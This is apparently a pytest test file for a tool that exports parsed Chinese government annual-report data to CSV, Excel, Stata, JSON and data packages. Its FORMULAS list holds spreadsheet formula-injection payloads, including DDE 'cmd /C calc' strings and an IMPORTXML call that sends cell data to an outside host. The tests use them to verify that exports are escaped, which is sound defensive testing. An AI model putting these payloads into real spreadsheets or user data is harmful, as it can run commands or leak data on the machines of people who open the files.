from __future__ import annotations

import builtins
import csv
import hashlib
import json
import math
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import frictionless
import jsonschema
import openpyxl
import pandas as pd
import pytest
from handmade import PD, RQ, failure, hybrid, report, town
from recorded import many

from govreport_parse.dataset import Dataset, load, write_dataset
from govreport_parse.dataset import excel as excel_module
from govreport_parse.dataset.jsonlines import place_of
from govreport_parse.dataset.layout import TABLES
from govreport_parse.errors import DatasetError, UsageError
from govreport_parse.report import Section
from govreport_parse.schema import schema
from govreport_parse.values import Locator, State

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"a\")", "=A1", "= 1",
    "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0", "+A1", "+SUM(A1:A9)", "+\n=1", "-1+cmd|' /C calc'!A0", "-A1",
    "-SUM(A1)", "-2+3+A1", "-1\n+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1",
    "@SUM(A1)", "\t=1+1", "\t@A1", "\r=1+1", "\n=1+1", "\n-A1", " =1+1", "  +A1", "\u3000=1+1",
    "\u00a0=1+1", "\u3000-A1", "＝1+1", "＝HYPERLINK(1)", "＋A1", "－A1", "＠SUM(A1)", "\t＝1",
    "=\t1", "=\"a\"&A1", "=-1+A1", "=+A1", "=@A1",
]  # fmt: skip
PLAIN = ["-", "—", "-18", "+3", "-1,234.5", "3=4", "a\n=1", "0", "", "其中=1", "（-3）"]


def test_there_are_forty_formulas() -> None:
    assert len(set(FORMULAS)) == 40


@pytest.fixture
def data(tmp_path: Path) -> Dataset:
    """A town with hostile texts in every kind of text column."""
    hostile = town(
        title=FORMULAS[0],
        organ="=甲局",
        sections=tuple(Section("k", t, t) for t in FORMULAS + PLAIN),
        changes={
            f"{PD}/rules/repealed": State.BLANK,
            f"{PD}/administrative_fees/amount": Decimal("12.5"),
        },
    )  # fmt: skip
    hostile.columns.raws[2] = "-18"
    write_dataset([hostile, hybrid(), failure("=x")], tmp_path / "d")
    return load(tmp_path / "d")


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def _same(given: Any, wanted: Any) -> bool:
    if wanted is None or wanted == "":
        return given in (None, "") or (isinstance(given, float) and math.isnan(given))
    if isinstance(wanted, (int, float)):
        return float(given) == wanted
    if isinstance(wanted, date):
        given = given.date() if isinstance(given, (datetime, pd.Timestamp)) else given
        return str(given) == str(wanted)
    return bool(given == wanted)


# -- CSV -------------------------------------------------------------------------------------------


def test_csv_reads_back_equal_table_by_table(data: Dataset, tmp_path: Path) -> None:
    made = data.export("csv", tmp_path / "csv", csv_safe=False)
    names = [
        "codebook",
        "wide",
        "panel",
        "coverage",
        "reports",
        "figures",
        "checks",
        "findings",
        "sections",
        "narrative",
        "indicators",
        "failures",
    ]
    assert [p.name for p in made] == [*(f"{n}.csv" for n in names), "methods.md"]
    for name in names[4:]:
        wanted = data.table(name).to_table().to_pylist()
        given = _rows(tmp_path / "csv" / f"{name}.csv")
        assert len(given) == len(wanted)
        assert bool(wanted) == (name not in ("narrative", "indicators"))
        for row, want in zip(given, wanted, strict=True):
            assert list(row) == list(want)
            for column, value in want.items():
                assert _same(row[column], value), (name, column, row[column], value)


def test_csv_has_a_bom_for_excel(data: Dataset, tmp_path: Path) -> None:
    for path in data.export("csv", tmp_path / "csv"):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf") == (path.suffix == ".csv")


def test_no_cell_of_a_csv_is_a_formula(data: Dataset, tmp_path: Path) -> None:
    data.export("csv", tmp_path / "csv")
    sections = _rows(tmp_path / "csv" / "sections.csv")
    assert [r["text"] for r in sections] == ["'" + t for t in FORMULAS] + PLAIN
    assert [r["heading"] for r in sections] == ["'" + t for t in FORMULAS] + PLAIN
    assert _rows(tmp_path / "csv" / "reports.csv")[1]["organ"] == "'=甲局"
    assert _rows(tmp_path / "csv" / "failures.csv")[0]["source_name"] == "'=x"
    wide = _rows(tmp_path / "csv" / "wide.csv")[1]
    assert (wide["title"], wide["organ"]) == ("'=1+1", "'=甲局")
    for path in (tmp_path / "csv").glob("*.csv"):
        for row in _rows(path):
            for text in row.values():
                bare = text.strip("\u00a0\u3000 \t\r\n")
                assert not bare.startswith(("=", "@", "＝", "＠")), (path.name, text)


def test_blank_is_empty_and_never_zero_in_csv(data: Dataset, tmp_path: Path) -> None:
    data.export("csv", tmp_path / "csv")
    rows = _rows(tmp_path / "csv" / "figures.csv")
    blank = [r for r in rows if r["state"] != "reported"]
    assert {(r["path"], r["value"], r["state"]) for r in blank} == {
        (f"{PD}/rules/issued", "", "dash"),
        (f"{PD}/rules/repealed", "", "blank"),
    }
    wide = _rows(tmp_path / "csv" / "wide.csv")[1]
    assert (wide["pd_rules_repealed"], wide["pd_rules_in_force"]) == ("", "0")


# -- Excel -----------------------------------------------------------------------------------------


def test_excel_reads_back_equal_with_frozen_headers_and_the_codebook_first(
    data: Dataset, tmp_path: Path
) -> None:
    data.export("excel", tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert book.sheetnames == [
        "codebook", "methods", "wide", "panel", "coverage", "reports", "figures", "checks",
        "findings", "sections",
        "narrative",
        "indicators",
        "failures",
    ]  # fmt: skip
    for sheet in book:
        assert sheet.freeze_panes == (None if sheet.title == "methods" else "A2")
    for name in book.sheetnames[5:]:
        wanted = data.table(name).to_table().to_pylist()
        head, *given = book[name].iter_rows(values_only=True)
        assert list(head) == data.table(name).columns
        assert len(given) == len(wanted)
        for row, want in zip(given, wanted, strict=True):
            for cell, value in zip(row, want.values(), strict=True):
                # a cell's lines end with LF
                text = value.replace("\r", "\n") if isinstance(value, str) else value
                assert _same(cell, text), (name, cell, value)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(data: Dataset, tmp_path: Path) -> None:
    data.export("excel", tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d", "inlineStr"}
    assert not any(cell.hyperlink for row in book["reports"].iter_rows() for cell in row)
    figures = {r[14].value: r for r in book["figures"].iter_rows(min_row=2) if r[3].value == 2023}
    assert len(figures) == 200
    assert figures[f"{PD}/licensing/decisions"][8].data_type == "n"
    assert figures[f"{PD}/rules/repealed"][8].value is None
    # the raw text -18 is a text
    assert [r[10].data_type for r in figures.values() if r[10].value == "-18"] == ["s"]


def test_what_a_sheet_cannot_hold_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = town(sections=(Section("overview", "一", "长" * 40_000),))
    write_dataset([made], tmp_path / "d")
    monkeypatch.setattr(excel_module, "ROWS", 400)
    other = report(name="b")
    write_dataset([other, hybrid()], tmp_path / "d")
    load(tmp_path / "d").export("excel", tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert "figures" not in book.sheetnames
    notes = "\n".join(str(r[0]) for r in book["methods"].iter_rows(values_only=True) if r[0])
    assert "'figures' has 586 rows, more than a sheet holds" in notes
    assert "In 'sections' 1 long texts were cut to 32,767 characters" in notes
    text = book["sections"].cell(2, 6).value
    assert len(text) == 32_767
    assert text.endswith("…[cut]")


def test_a_workbook_gets_the_ending_by_which_it_is_opened(data: Dataset, tmp_path: Path) -> None:
    assert data.export("excel", tmp_path / "counties") == [tmp_path / "counties.xlsx"]
    assert openpyxl.load_workbook(tmp_path / "counties.xlsx").sheetnames[0] == "codebook"
    assert [p.name for p in tmp_path.iterdir() if p.is_file()] == ["counties.xlsx"]


BIG = 99_999_999_999_999_999


def test_excel_changes_no_number_and_no_date(tmp_path: Path) -> None:
    counts = {f"{RQ}/granted/total": 2**53 - 1, f"{RQ}/granted/business": BIG}
    made = report(counts, name="a", published=date(1899, 12, 31))
    write_dataset([made, report(name="b", published=date(2024, 1, 31))], tmp_path / "d")
    load(tmp_path / "d").export("excel", tmp_path / "x.xlsx")
    header, *rows = openpyxl.load_workbook(tmp_path / "x.xlsx")["wide"].iter_rows(values_only=True)
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    row = by_id.pop(made.report_id)
    assert row["rq_granted_total"] == "9007199254740991"
    # the column value holds 100000000000000000 of it: no count
    assert row["rq_granted_business"] is None
    assert row["published"] == "1899-12-31"
    (other,) = by_id.values()
    assert other["published"] == datetime(2024, 1, 31)
    assert other["rq_granted_total"] == 0


def test_a_cell_of_the_workbook_is_counted_as_excel_counts(tmp_path: Path) -> None:
    texts = ["😀" * 16_383, "😀" * 16_384, "中" * 32_767, "中" * 32_768, "a" + "😀" * 20_000]
    sections = tuple(Section(f"narrative_{i}", "一", t) for i, t in enumerate(texts))
    write_dataset([town(sections=sections)], tmp_path / "d")
    load(tmp_path / "d").export("excel", tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["sections"]
    found = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [len(t.encode("utf-16-le")) // 2 for t in found] == [
        32_766,
        32_767,
        32_767,
        32_767,
        32_766,
    ]
    assert [t == f for t, f in zip(texts, found, strict=True)] == [True, False, True, False, False]
    for whole, cut in zip(texts, found, strict=True):
        assert whole.startswith(cut.removesuffix(" …[cut]"))


def test_excel_without_its_library_says_how_to_get_it(
    data: Dataset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = builtins.__import__

    def without(name: str, *args: object, **more: object) -> object:
        if name.startswith("xlsxwriter"):
            raise ImportError(name)
        return real(name, *args, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(UsageError, match=r"govreport_parse\[excel\]"):
        data.export("excel", tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


# -- Stata -----------------------------------------------------------------------------------------


def test_stata_reads_back_equal_with_labels(data: Dataset, tmp_path: Path) -> None:
    data.export("stata", tmp_path / "stata")
    for name in TABLES:
        wanted = data.table(name).to_table().to_pylist()
        with pd.io.stata.StataReader(tmp_path / "stata" / f"{name}.dta") as reader:
            frame = reader.read()
            labels = reader.variable_labels()
        assert list(frame.columns) == data.table(name).columns
        assert len(frame) == len(wanted)
        assert bool(wanted) == (name not in ("narrative", "indicators"))
        for row, want in zip(frame.astype(object).to_dict("records"), wanted, strict=True):
            for column, value in want.items():
                given = row[column]
                if value is None:
                    assert pd.isna(given) or given == ""
                else:
                    assert _same(given, value), (name, column, given, value)
        assert all(labels.values())
        assert max(map(len, labels.values())) <= 80


def test_stata_figures_have_short_names_and_labels_in_two_languages(
    data: Dataset, tmp_path: Path
) -> None:
    data.export("stata", tmp_path / "stata")
    with pd.io.stata.StataReader(tmp_path / "stata" / "wide.dta") as reader:
        frame = reader.read()
        labels = reader.variable_labels()
    assert labels["rq_granted_total"].startswith("（一）予以公开 / 总计 ")
    row = frame[frame["organ"] == "=甲局"].iloc[0]
    assert row["rq_granted_total"] == 2
    assert row["pd_admin_fees_amount"] == 12.5
    assert pd.isna(row["pd_rules_repealed"])
    assert row["pd_rules_in_force"] == 0
    with pd.io.stata.StataReader(tmp_path / "stata" / "figures.dta") as reader:
        coded = reader.read(convert_categoricals=False)
        values = reader.value_labels()
    assert set(values["state"].values()) == {"reported", "blank", "dash"}
    assert coded["state"].dtype.kind == "i"


def test_stata_keeps_long_texts_whole(tmp_path: Path) -> None:
    text = "长文" * 5000
    write_dataset([town(sections=(Section("overview", "一", text),))], tmp_path / "d")
    load(tmp_path / "d").export("stata", tmp_path / "s")
    assert pd.read_stata(tmp_path / "s" / "sections.dta")["text"].tolist() == [text]


def test_numbers_that_stata_would_change_are_missing_and_counted(tmp_path: Path) -> None:
    fees = f"{PD}/administrative_fees/amount"
    made = report(
        {f"{RQ}/granted/total": BIG, f"{RQ}/granted/business": 2**53 - 1, fees: Decimal("1e308")}
    )
    write_dataset([made, town(name="t", published=date(9999, 12, 31))], tmp_path / "d")
    load(tmp_path / "d").export("stata", tmp_path / "s")
    frame = pd.read_stata(tmp_path / "s" / "wide.dta").set_index("report_id")
    row = frame.loc[made.report_id]
    assert pd.isna(row["rq_granted_total"])
    assert pd.isna(row["pd_admin_fees_amount"])
    assert row["rq_granted_business"] == 2**53 - 1
    figures = pd.read_stata(tmp_path / "s" / "figures.dta")
    raw = figures[(figures["report_id"] == made.report_id) & (figures["path"] == fees)]
    assert pd.isna(raw["value"].item())
    notes = (tmp_path / "s" / "methods.md").read_text(encoding="utf-8")
    # the amount and its twin in 万元
    assert "In wide.dta 2 numbers are larger than Stata holds exactly" in notes


def test_units_too_many_for_value_labels_are_texts(tmp_path: Path) -> None:
    made = town()
    units = {i: f"{'长' * 60}{i}" for i in range(190)}
    made.columns.units.update(units)
    write_dataset([made], tmp_path / "d")
    load(tmp_path / "d").export("stata", tmp_path / "s")
    with pd.io.stata.StataReader(tmp_path / "s" / "figures.dta") as reader:
        frame, labels = reader.read(convert_categoricals=False), reader.value_labels()
    assert set(frame["unit"]) >= set(units.values())
    assert "unit" not in labels
    assert "state" in labels


def test_a_column_is_labelled_with_what_it_means_in_its_own_table(
    data: Dataset, tmp_path: Path
) -> None:
    """``value``, ``state`` and others stand in several tables for different things."""
    data.export("stata", tmp_path / "s")
    data.export("datapackage", tmp_path / "p")
    package = json.loads((tmp_path / "p" / "datapackage.json").read_text("utf-8"))
    titles = {
        r["name"]: {f["name"]: f.get("title") for f in r["schema"]["fields"]}
        for r in package["resources"]
    }
    wanted = {
        "figures": {
            "value": ("数值", "value in the unit that the report states"),
            "state": ("状态", "state of the figure"),
            "locator": ("位置", "where the cell stands in the source"),
        },
        "checks": {"state": ("核对结果", "outcome of the check")},
        "findings": {"code": ("代码", "code of the finding")},
        "narrative": {"value": ("数值", "number that the sentence gives")},
        "indicators": {"state": ("状态", "state of the row"), "unit": ("单位", "unit as printed")},
        "wide": {"year": ("报告年度", "year reported on")},
    }
    for name, columns in wanted.items():
        with pd.io.stata.StataReader(tmp_path / "s" / f"{name}.dta") as reader:
            labels = reader.variable_labels()
        for column, (zh, en) in columns.items():
            assert labels[column] == f"{zh} {en}", (name, column)
            assert titles[name][column] == f"{zh} / {en}", (name, column)


# -- JSON lines ------------------------------------------------------------------------------------


def test_json_lines_follow_the_schema_and_hold_every_report(tmp_path: Path) -> None:
    made = [r for _, r in many(12)]
    first = town()
    first.others = (report({f"{RQ}/granted/total": 9}, report_id=first.report_id + "#2"),)
    write_dataset([*made, first, failure()], tmp_path / "d")
    load(tmp_path / "d").export("json", tmp_path / "x.jsonl")
    lines = [json.loads(x) for x in (tmp_path / "x.jsonl").read_text("utf-8").splitlines()]
    validator = jsonschema.Draft202012Validator(schema())
    for line in lines:
        validator.validate(line)
    assert lines[-1]["error"]["type"] == "NotAReportError"
    by_id = {line["report_id"]: line for line in lines[:-1]}
    expected = {r.report_id: r.to_dict() for r in (*made, first, *first.others)}
    assert set(by_id) == set(expected)
    for key, want in expected.items():
        given = by_id[key]
        for name in ("source", "form", "forms", "title", "organ", "year", "published", "checks"):
            assert given[name] == want[name], name
        assert given["completeness"] == want["completeness"]
        assert [s["text"] for s in given["sections"]] == [s["text"] for s in want["sections"]]
        for figure, wanted in zip(given["figures"], want["figures"], strict=True):
            assert figure == {k: v for k, v in wanted.items() if k in figure}


@pytest.mark.parametrize(
    "place",
    [
        Locator(table=2, row=3, column=4),
        Locator(page=1, table=2, row=3, column=4, line=9),
        Locator(line=9, cell=2),
        Locator(sheet="表1", table=2, row=3, column=4),
        Locator(sheet="a, table 7, row x", table=2, row=1, column=1),
        Locator(sheet="one"),
        Locator(sheet="line 3", page=4),
    ],
)
def test_places_come_back_from_their_text(place: Locator) -> None:
    assert place_of(str(place)) == place.to_dict()


def test_no_place_is_none() -> None:
    assert place_of(None) is None
    assert place_of("nowhere") is None


# -- data package ----------------------------------------------------------------------------------


def test_the_data_package_describes_every_file_and_column(data: Dataset, tmp_path: Path) -> None:
    made = data.export("datapackage", tmp_path / "p")
    assert made[-1].name == "datapackage.json"
    package = json.loads(made[-1].read_text("utf-8"))
    # what the specification requires: a resource has a name and a path; a field a name and type
    assert package["profile"] == "tabular-data-package"
    names = [r["name"] for r in package["resources"]]
    assert names == ["codebook", "wide", "panel", "coverage", *TABLES]
    for resource in package["resources"]:
        path = tmp_path / "p" / resource["path"]
        content = path.read_bytes()
        assert resource["profile"] == "tabular-data-resource"
        assert resource["bytes"] == len(content)
        assert resource["hash"] == "sha256:" + hashlib.sha256(content).hexdigest()
        assert not content.startswith(b"\xef\xbb\xbf")
        with path.open(encoding=resource["encoding"], newline="") as file:
            head = next(csv.reader(file))
        fields = resource["schema"]["fields"]
        assert [f["name"] for f in fields] == head
        assert {f["type"] for f in fields} <= {"string", "integer", "number", "date"}
        assert set(resource["schema"].get("primaryKey", [])) <= set(head)
        for key in resource["schema"].get("foreignKeys", []):
            assert key["reference"]["resource"] in names
    wide = {f["name"]: f for f in package["resources"][1]["schema"]["fields"]}
    assert wide["rq_granted_total"]["title"].startswith("（一）予以公开 / 总计")
    assert wide["rq_granted_total"]["type"] == "integer"


def test_frictionless_finds_the_package_valid(data: Dataset, tmp_path: Path) -> None:
    data.export("datapackage", tmp_path / "p")
    answer = frictionless.validate(str(tmp_path / "p" / "datapackage.json"))
    assert answer.valid, answer.flatten(["rowNumber", "fieldNumber", "type", "note"])


# -- methods note ----------------------------------------------------------------------------------


def test_the_methods_note_counts_what_is_there(data: Dataset) -> None:
    note = data.methods()
    assert "- ogi_annual_2021: Annual report format, 2021, 国办公开办函〔2021〕30号" in note
    assert "mixed: tables of two forms" in note
    assert "ogi_stats_2014" not in note
    assert "holds 2 annual reports" in note
    assert "1 addresses or documents gave no report" in note
    assert "| 2023 | 0 | 1 |" in note
    assert "| blank | 1 |" in note
    assert "| reported | 384 |" in note
    assert "82 hold" in note
    assert "| warning | row_matched_loosely | 1 | 1 |" in note
    assert "| NotAReportError | 1 |" in note
    assert "2024-01-20 to 2024-01-20 (1 reports without a date)" in note


# -- wrong use -------------------------------------------------------------------------------------


def test_wrong_exports_are_usage_errors(data: Dataset, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="one of csv, excel, stata, json, datapackage"):
        data.export("pdf", tmp_path / "x")
    with pytest.raises(UsageError, match="is a folder"):
        data.export("excel", tmp_path)
    with pytest.raises(UsageError, match="cannot write"):
        data.export("json", tmp_path / "no" / "x.jsonl")
    with pytest.raises(UsageError, match="no name of a workbook"):
        data.export("excel", tmp_path / "x.csv")
    (tmp_path / "file").write_text("mine")
    with pytest.raises(UsageError, match="cannot make"):
        data.export("csv", tmp_path / "file")
    assert (tmp_path / "file").read_text() == "mine"


@pytest.mark.parametrize("to", ["csv", "excel", "stata", "json", "datapackage"])
def test_a_failed_export_leaves_no_half_file_and_the_old_one(
    data: Dataset, tmp_path: Path, to: str
) -> None:
    out = tmp_path / ("out.xlsx" if to == "excel" else "out")
    data.export(to, out)
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and p.parts[-2] != "d"}
    victim = data.figures.files[0]
    victim.write_bytes(b"\0" * victim.stat().st_size)
    with pytest.raises(DatasetError):
        data.export(to, out)
    left = [p for p in ([out] if out.is_file() else out.iterdir()) if p.name.startswith(".")]
    assert left == []
    figures = out / "figures.csv" if out.is_dir() else out
    if figures in before:
        assert figures.read_bytes() == before[figures]
